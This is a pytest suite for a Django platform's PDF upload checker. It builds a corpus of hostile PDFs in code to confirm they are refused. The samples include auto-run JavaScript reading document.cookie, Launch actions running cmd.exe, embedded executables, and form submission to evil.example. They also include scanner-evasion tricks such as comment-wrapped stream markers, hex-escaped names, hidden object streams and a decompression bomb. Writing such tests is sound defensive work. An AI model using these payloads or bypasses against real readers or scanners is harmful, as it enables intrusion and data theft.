"""PDF uploads are checked by parsing them (core.pdf_safety), not by searching bytes.

The corpus is written in code: raw PDF text (``tests/pdfs.py``), pypdf's writer and
fpdf2 (which makes the platform's own attendance certificates). Every active file is
refused with the translated message whatever hides it (comments or strings spelling
``stream``/``endstream``, #xx escapes in names, compressed object streams, objects the
cross-reference does not list); clean files, certificates included, are accepted
unchanged. Then each upload door gets the file that passed the old byte scan.
"""

from __future__ import annotations

import io
import logging
import os
import zlib
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from fpdf import FPDF
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import ArrayObject, NameObject

from core import pdf_safety, uploads
from marketplace.models import InquiryMessage
from mentoring import services as training_services
from mentoring.certificates import certificate_pdf
from mentoring.models import SessionMaterial, TrainingSession
from umkm.models import Certification

from ..factories import (
    AttendedRegistrationFactory,
    BusinessFactory,
    BuyerFactory,
    ListedProductFactory,
    MentorFactory,
    OwnerFactory,
)
from ..support.forms_as_sent import signed_in
from ..support.pdfs import PAGES, catalog, pdf_file, pdf_file_packed

ACTIVE = (
    "This PDF contains scripts, automatic actions, embedded files or media; "
    "save it again as a plain PDF (for example with “Print to PDF”)."
)
DAMAGED = "The PDF file is damaged or incomplete."
UNCHECKABLE = (
    "This PDF is encrypted, or too large or complex for us to check; "
    "save it again as a plain PDF (for example with “Print to PDF”)."
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def check(data: bytes):
    """What ``clean_document_upload`` (every PDF door) makes of ``data``."""
    upload = SimpleUploadedFile("certificate.pdf", data, content_type="application/pdf")
    return uploads.clean_document_upload(upload)


def refusal(data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as excinfo:
        check(data)
    return excinfo.value


def page_with(extra: bytes) -> bytes:
    """Object 3, the page, with ``extra`` entries."""
    return b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b" >> endobj"


def with_annotation(annotation: bytes, *more: bytes) -> bytes:
    """A one-page PDF whose page carries ``annotation`` (object 4)."""
    return pdf_file(
        catalog(),
        PAGES[0],
        page_with(b"/Annots [4 0 R]"),
        b"4 0 obj << /Type /Annot /Rect [10 10 200 40] " + annotation + b" >> endobj",
        *more,
    )


def link_doing(action: bytes) -> bytes:
    return with_annotation(b"/Subtype /Link /Border [0 0 0] /A " + action)


def written(build) -> bytes:
    """A PDF from pypdf's writer: one blank page, then ``build(writer)``."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def fpdf_document() -> bytes:
    """A quotation as a small business would export it: text, a web link, an outline.

    Uncompressed, so the page text spelling PDF words sits in the file as it is.
    """
    pdf = FPDF()
    pdf.set_compression(False)
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.start_section("Quotation")
    pdf.cell(0, 10, "Keripik nanas 500 pack, FOB Dumai", new_x="LMARGIN", new_y="NEXT")
    pdf.cell(0, 10, "https://example.com/katalog", link="https://example.com/katalog")
    pdf.add_page()
    pdf.start_section("Terms")
    pdf.multi_cell(0, 8, "Payment 30% in advance. stream endstream /JS /Launch " * 20)
    return bytes(pdf.output())


# The file that passed the old byte scan: the action sits between a "stream" and an
# "endstream" spelled inside comments, so the scan skipped it as stream data.
COMMENT_WRAPPED = pdf_file(
    b"1 0 obj << /Type /Catalog /Pages 2 0 R % stream\n"
    b"/OpenAction " + SCRIPT + b" % endstream\n>> endobj",
    *PAGES,
)
STRING_WRAPPED = pdf_file(
    b"1 0 obj << /Type /Catalog /Pages 2 0 R /Lang (stream\n)"
    b" /OpenAction " + SCRIPT + b" /PageMode /UseNone /PageLayout (endstream) >> endobj",
    *PAGES,
)


def file_spec(number: int, *, embedded: int | None = None) -> bytes:
    """A file specification naming a file, and carrying it (``/EF``) if ``embedded``."""
    carried = b" /EF << /F %d 0 R >>" % embedded if embedded else b""
    return b"%d 0 obj << /Type /Filespec /F (invoice.exe)%s >> endobj" % (number, carried)


def stream_object(number: int, content: bytes, extra: bytes = b"") -> bytes:
    return b"%d 0 obj << %s /Length %d >>\nstream\n%s\nendstream\nendobj" % (
        number,
        extra,
        len(content),
        content,
    )


# --- the corpus: refused as active ------------------------------------------------------

# name: (file, why it is refused). Each file has one active feature, so each rule is
# shown to hold on its own; the reason is what the check logs (not shown to users).
ACTIVE_FILES = {
    "openaction-javascript": (
        pdf_file(catalog(b"/OpenAction " + SCRIPT), *PAGES),
        "an action on opening",
    ),
    "comment-wrapped": (COMMENT_WRAPPED, "an action on opening"),
    "string-wrapped": (STRING_WRAPPED, "an action on opening"),
    "openaction-indirect": (
        pdf_file(
            catalog(b"/OpenAction 4 0 R"),
            *PAGES,
            b"4 0 obj << /S /URI /URI (https://evil.example/) >> endobj",
        ),
        "an action on opening",
    ),
    "openaction-web-page": (
        pdf_file(catalog(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"), *PAGES),
        "an action on opening",
    ),
    "openaction-goto-then-script": (
        pdf_file(
            catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + SCRIPT + b" >>"),
            *PAGES,
        ),
        "an action on opening",
    ),
    "hex-escaped-openaction": (
        pdf_file(catalog(b"/OpenA#63tion << /S /URI /URI (https://evil.example/) >>"), *PAGES),
        "an action on opening",
    ),
    "hex-escaped-javascript-action": (
        link_doing(b"<< /S /#4Aavascript >>"),
        "action /javascript",
    ),
    "hex-escaped-js-key": (
        link_doing(b"<< /S /Named /N /Print /J#53 (app.alert\\(1\\)) >>"),
        "JavaScript",
    ),
    "action-type-by-reference": (
        with_annotation(
            b"/Subtype /Link /A << /S 5 0 R /F (calc.exe) >>", b"5 0 obj /Launch endobj"
        ),
        "action /launch",
    ),
    "catalog-aa": (pdf_file(catalog(b"/AA << /WC " + SCRIPT + b" >>"), *PAGES), "additional"),
    "page-aa-script": (
        pdf_file(catalog(), PAGES[0], page_with(b"/AA << /O " + SCRIPT + b" >>")),
        "additional",
    ),
    "page-aa-link": (
        pdf_file(
            catalog(),
            PAGES[0],
            page_with(b"/AA << /O << /S /URI /URI (https://evil.example/) >> >>"),
        ),
        "additional",
    ),
    "annotation-aa": (
        with_annotation(
            b"/Subtype /Widget /FT /Btn /T (ok) /AA << /E << /S /GoTo /D [3 0 R /Fit] >> >>"
        ),
        "additional",
    ),
    "javascript-name-tree": (
        pdf_file(
            catalog(b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>"),
            *PAGES,
            b"4 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj",
        ),
        "JavaScript name tree",
    ),
    "javascript-action": (link_doing(SCRIPT), "JavaScript"),
    "launch": (
        link_doing(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "action /launch",
    ),
    "embedded-files-name-tree": (
        pdf_file(
            catalog(b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>"),
            *PAGES,
            file_spec(4),
        ),
        "embedded files name tree",
    ),
    "embedded-file-in-a-file-spec": (
        pdf_file(
            catalog(b"/Extra 4 0 R"), *PAGES, file_spec(4, embedded=5), stream_object(5, b"MZ")
        ),
        "embedded file",
    ),
    "embedded-file-stream-unreferenced": (
        pdf_file(catalog(), *PAGES, stream_object(4, b"MZ", b"/Type /EmbeddedFile")),
        "object /embeddedfile",
    ),
    "file-attachment-annotation": (
        with_annotation(b"/Subtype /FileAttachment /FS (invoice.exe) /Name /Paperclip"),
        "annotation /fileattachment",
    ),
    "xfa": (
        pdf_file(
            catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
            *PAGES,
            stream_object(4, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
        ),
        "XFA form",
    ),
    "rich-media": (with_annotation(b"/Subtype /RichMedia"), "annotation /richmedia"),
    "rich-media-content": (
        pdf_file(catalog(b"/Extra << /RichMediaContent << >> >>"), *PAGES),
        "rich media",
    ),
    "3d": (with_annotation(b"/Subtype /3D /3DD (model)"), "annotation /3d"),
    "movie": (with_annotation(b"/Subtype /Movie /Movie << /F (clip.mov) >>"), "annotation /movie"),
    "sound": (with_annotation(b"/Subtype /Sound /Sound (beep)"), "annotation /sound"),
    "screen": (with_annotation(b"/Subtype /Screen"), "annotation /screen"),
    "rendition-action": (link_doing(b"<< /S /Rendition /OP 0 >>"), "action /rendition"),
    "submit-form": (
        link_doing(b"<< /S /SubmitForm /F (https://evil.example/collect) >>"),
        "action /submitform",
    ),
    "import-data": (link_doing(b"<< /S /ImportData /F (data.fdf) >>"), "action /importdata"),
    "goto-remote": (
        link_doing(b"<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>"),
        "action /gotor",
    ),
    "goto-embedded": (
        link_doing(b"<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>"),
        "action /gotoe",
    ),
    "javascript-link": (
        link_doing(b"<< /S /URI /URI ( javascript:app.alert\\(1\\)) >>"),
        "script or local link",
    ),
    "local-file-link": (
        link_doing(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"),
        "script or local link",
    ),
    "action-name-in-lower-case": (link_doing(b"<< /S /launch /F (calc.exe) >>"), "action /launch"),
    "object-stream": (
        pdf_file_packed(
            {1: catalog(b"/OpenAction " + SCRIPT)[8:-7], 2: PAGES[0][8:-7], 3: PAGES[1][8:-7]}
        ),
        "an action on opening",
    ),
    # An uncompressed object stream the cross-reference lists, holding an object it
    # does not list.
    "object-stream-member-unlisted": (
        pdf_file(
            catalog(),
            *PAGES,
            stream_object(4, b"9 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4"),
        ),
        "JavaScript",
    ),
    # The cross-reference points at a clean catalog; a second "1 0 obj" a repairing
    # reader would take (the last one wins) carries the action.
    "duplicate-object-number": (
        pdf_file(
            catalog(),
            *PAGES,
            b"4 0 obj << >> endobj\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction "
            + SCRIPT
            + b" >> endobj",
        ),
        "an action on opening",
    ),
    "pypdf-document-script": (
        written(lambda writer: writer.add_open_action(JavaScript("app.alert(1);"))),
        "JavaScript",
    ),
    "pypdf-attachment": (
        written(lambda writer: writer.add_attachment("run.bat", b"calc")),
        "embedded file",
    ),
    "pypdf-page-open-script": (
        written(
            lambda writer: writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert(1);"))
        ),
        "additional",
    ),
}


@pytest.fixture
def reasons(caplog):
    caplog.set_level(logging.INFO, logger="core.pdf_safety")
    return lambda: [r.getMessage() for r in caplog.records if r.name == "core.pdf_safety"]


@pytest.mark.parametrize(("data", "reason"), ACTIVE_FILES.values(), ids=ACTIVE_FILES.keys())
def test_active_pdf_is_refused(data, reason, reasons):
    error = refusal(data)
    assert error.code == "active_pdf"
    assert error.messages == [ACTIVE]
    assert reason in reasons()[-1]


def test_the_refusal_is_translated():
    with translation.override("id"):
        error = refusal(COMMENT_WRAPPED)
        assert error.messages == [str(pdf_safety.MSG_PDF_ACTIVE)]
    # gettext, not a constant: the same refusal reads in the language active at the time.
    assert str(pdf_safety.MSG_PDF_ACTIVE) == ACTIVE


def test_an_older_revision_with_a_script_is_refused(reasons):
    """An incremental update hid the scripted catalog; the old object is still in the
    file, and a reader that rebuilds the cross-reference would find it."""
    original = pdf_file(catalog(b"/OpenAction " + SCRIPT), *PAGES)
    start = len(original)
    update = b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    xref = start + len(update)
    previous = int(original.rsplit(b"startxref\n", 1)[1].split()[0])
    data = (
        original
        + update
        + (
            b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n"
            b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (start, previous, xref)
        )
    )
    assert refusal(data).code == "active_pdf"


# --- the corpus: accepted ------------------------------------------------------------------

CLEAN_FILES = {
    "minimal": pdf_file(),
    "open-at-first-page": pdf_file(catalog(b"/OpenAction [3 0 R /Fit]"), *PAGES),
    "open-with-goto": pdf_file(catalog(b"/OpenAction << /S /GoTo /D [3 0 R /FitH 800] >>"), *PAGES),
    "open-named-destination": pdf_file(catalog(b"/OpenAction (start)"), *PAGES),
    "web-link": link_doing(b"<< /S /URI /URI (https://example.com/katalog) >>"),
    "object-stream": pdf_file_packed({1: catalog()[8:-7], 2: PAGES[0][8:-7], 3: PAGES[1][8:-7]}),
    "fpdf2-quotation": fpdf_document(),
    "pypdf-outline-and-link": written(
        lambda writer: (
            writer.add_outline_item(title="Start", page_number=0),
            writer.add_uri(0, "https://example.com/", [10, 10, 200, 40]),
            writer.root_object.__setitem__(
                NameObject("/OpenAction"),
                ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]),
            ),
        )
    ),
    # Restrictions without a password to open (common on issued certificates).
    "owner-password-only": written(lambda writer: writer.encrypt("", "owner-secret")),
    "binary-picture-spelling-names": pdf_file(
        catalog(),
        PAGES[0],
        page_with(b"/Resources << /XObject << /Im1 4 0 R >> >>"),
        b"4 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8"
        b" /ColorSpace /DeviceGray /Filter /DCTDecode /Length 24 >>\nstream\n"
        b"\xff\xd8/JS /Launch /AA \xff\xd9 0 1\nendstream\nendobj",
    ),
}


@pytest.mark.parametrize("data", CLEAN_FILES.values(), ids=CLEAN_FILES.keys())
def test_clean_pdf_is_accepted_unchanged(data):
    content = check(data)
    content.seek(0)
    assert content.read() == data
    assert content.name.endswith(".pdf")


@pytest.mark.django_db
def test_the_platforms_own_attendance_certificate_is_accepted():
    registration = AttendedRegistrationFactory(attendee_name="Siti Aminah")
    training_services.certificate_code_ensure(registration=registration)
    data = certificate_pdf(registration)
    content = check(data)
    content.seek(0)
    assert content.read() == data


def test_an_encrypted_pdf_with_a_script_is_refused_after_decrypting():
    data = written(
        lambda writer: (
            writer.add_open_action(JavaScript("app.alert(1);")),
            writer.encrypt("", "owner-secret"),
        )
    )
    assert refusal(data).code == "active_pdf"


# --- the corpus: damaged or uncheckable ---------------------------------------------------

CLEAN = pdf_file()
DAMAGED_FILES = {
    "truncated": CLEAN[: len(CLEAN) // 2],
    "truncated-with-end-marker": CLEAN[: len(CLEAN) // 2] + b"\n%%EOF\n",
    "garbage": b"%PDF-1.7\n" + os.urandom(4000) + b"\n%%EOF\n",
    "no-cross-reference": (
        b"%PDF-1.4\n"
        + catalog(b"/OpenAction [3 0 R /Fit]")
        + b"\n"
        + b"\n".join(PAGES)
        + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    ),
    "no-pages": pdf_file(b"1 0 obj << /Type /Catalog >> endobj"),
    "nested-too-deep": pdf_file(catalog(b"/Extra " + b"[" * 50_000 + b"]" * 50_000), *PAGES),
}


@pytest.mark.parametrize("data", DAMAGED_FILES.values(), ids=DAMAGED_FILES.keys())
def test_damaged_pdf_is_refused(data):
    error = refusal(data)
    assert error.code == "damaged_pdf"
    assert error.messages == [DAMAGED]


def test_garbage_without_a_pdf_header_is_not_a_document():
    error = refusal(os.urandom(4000))
    assert error.messages == ["Upload a PDF, JPEG or PNG file."]


def bomb_object_stream() -> bytes:
    content = zlib.compress(b"1 0 " + b" " * (30 * 1024 * 1024), 9)  # 30 MB of spaces
    return pdf_file(
        catalog(),
        *PAGES,
        b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj" % (len(content), content),
    )


UNCHECKABLE_FILES = {
    "password": written(lambda writer: writer.encrypt("user-secret", "owner-secret")),
    "password-aes": written(
        lambda writer: writer.encrypt("user-secret", "owner-secret", algorithm="AES-256")
    ),
    "object-stream-bomb": bomb_object_stream(),
    "object-stream-unknown-filter": pdf_file(
        catalog(),
        *PAGES,
        b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode /Length 8 >>\n"
        b"stream\n\x97\x4a\x42\x32\x0d\x0a\x1a\x0a\nendstream\nendobj",
    ),
    "object-stream-claims-a-billion": pdf_file(
        catalog(),
        *PAGES,
        b"4 0 obj << /Type /ObjStm /N 1000000000 /First 4 /Length 10 >>\n"
        b"stream\n9 0 << >>\nendstream\nendobj",
    ),
}


@pytest.mark.parametrize("data", UNCHECKABLE_FILES.values(), ids=UNCHECKABLE_FILES.keys())
def test_pdf_we_cannot_look_into_is_refused(data):
    error = refusal(data)
    assert error.code == "uncheckable_pdf"
    assert error.messages == [UNCHECKABLE]


def many_objects(count: int) -> bytes:
    numbers = range(4, 4 + count)
    kids = b" ".join(b"%d 0 R" % n for n in numbers)
    return pdf_file(
        catalog(b"/Extra [" + kids + b"]"),
        *PAGES,
        *(b"%d 0 obj << /N %d >> endobj" % (n, n) for n in numbers),
    )


def test_a_pdf_with_more_objects_than_the_bound_is_refused_not_walked(monkeypatch):
    data = many_objects(300)
    check(data)  # within the bound
    monkeypatch.setattr(pdf_safety, "PDF_MAX_OBJECTS", 200)
    assert refusal(data).code == "uncheckable_pdf"


def test_a_pdf_that_takes_too_long_is_refused_not_waited_on(monkeypatch):
    monkeypatch.setattr(pdf_safety, "PDF_MAX_SECONDS", 0.0)
    assert refusal(many_objects(50)).code == "uncheckable_pdf"


def test_a_reference_cycle_is_walked_once():
    data = pdf_file(
        catalog(b"/Extra 4 0 R"),
        *PAGES,
        b"4 0 obj << /Next 5 0 R /Self 4 0 R >> endobj",
        b"5 0 obj << /Back 4 0 R /Arr [5 0 R 4 0 R 1 0 R] >> endobj",
    )
    check(data)


def test_a_large_ordinary_document_is_checked_quickly():
    pdf = FPDF()
    pdf.set_font("Helvetica", size=9)
    for number in range(300):
        pdf.add_page()
        pdf.start_section(f"Product {number}")
        pdf.cell(0, 5, "https://example.com/", link="https://example.com/")
    data = bytes(pdf.output())
    started = timezone.now()
    check(data)
    assert timezone.now() - started < timedelta(seconds=pdf_safety.PDF_MAX_SECONDS)


# --- every door refuses the file the old scan let through ------------------------------


def private_files() -> set[Path]:
    roots = [Path(settings.MEDIA_ROOT), Path(settings.MEDIA_ROOT).parent / "private"]
    return {p for root in roots if root.exists() for p in root.rglob("*") if p.is_file()}


def post_file(client: Client, url: str, data: dict, field: str, content: bytes):
    upload = SimpleUploadedFile("specification.pdf", content, content_type="application/pdf")
    return client.post(url, {**data, field: upload})


def certificate_door():
    owner = OwnerFactory()
    business = BusinessFactory(owner=owner)
    url = reverse("umkm:certification-list", args=[business.slug])
    data = {"kind": "halal", "number": "ID-0001", "issuer": "BPJPH", "issued_on": "2024-03-01"}
    return signed_in(owner), url, data, "document", Certification.objects.filter(business=business)


def inquiry_door():
    product = ListedProductFactory()
    url = reverse("marketplace:inquiry-create-product", args=[product.slug])
    data = {
        "quantity": "500",
        "unit": "pack",
        "incoterm": "FOB",
        "destination_country": "NL",
        "message": "Please quote 500 packs, FOB Dumai.",
        "website_url": "",
    }
    messages = InquiryMessage.objects.filter(inquiry__business=product.business)
    return signed_in(BuyerFactory()), url, data, "attachment", messages


def material_door():
    mentor = MentorFactory()
    starts = (timezone.now() + timedelta(days=7)).replace(second=0, microsecond=0)
    session = TrainingSession.objects.create(
        host=mentor,
        title="Pelatihan ekspor",
        topic="export",
        starts_at=starts,
        ends_at=starts + timedelta(hours=2),
        registration_deadline=starts - timedelta(hours=2),
        mode=TrainingSession.Mode.OFFLINE,
        venue="Aula",
        city="Pekanbaru",
        capacity=10,
        status=TrainingSession.Status.PUBLISHED,
    )
    url = reverse("mentoring:session-materials", args=[session.pk])
    rows = SessionMaterial.objects.filter(session=session)
    return signed_in(mentor), url, {"title": "Slides"}, "file", rows


DOORS = {"certificate": certificate_door, "inquiry": inquiry_door, "material": material_door}


@pytest.mark.django_db
@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize(
    "content", [COMMENT_WRAPPED, STRING_WRAPPED], ids=["comment-wrapped", "string-wrapped"]
)
def test_each_door_refuses_the_bypass_and_stores_nothing(door, content):
    client, url, data, field, rows = DOORS[door]()
    files_before = private_files()
    response = post_file(client, url, data, field, content)
    assert response.status_code in (200, 400)
    form_errors = response.context["form"].errors[field]
    language = response.wsgi_request.LANGUAGE_CODE
    with translation.override(language):
        assert form_errors == [str(pdf_safety.MSG_PDF_ACTIVE)]
    assert not rows.exists()
    assert private_files() == files_before


@pytest.mark.django_db
@pytest.mark.parametrize("door", DOORS)
def test_each_door_stores_a_clean_pdf_as_sent(door):
    """The control: the same door takes a plain PDF, byte for byte."""
    client, url, data, field, rows = DOORS[door]()
    content = fpdf_document()
    response = post_file(client, url, data, field, content)
    assert response.status_code == 302
    stored = getattr(rows.get(), field)
    with stored.open("rb") as handle:
        assert handle.read() == content
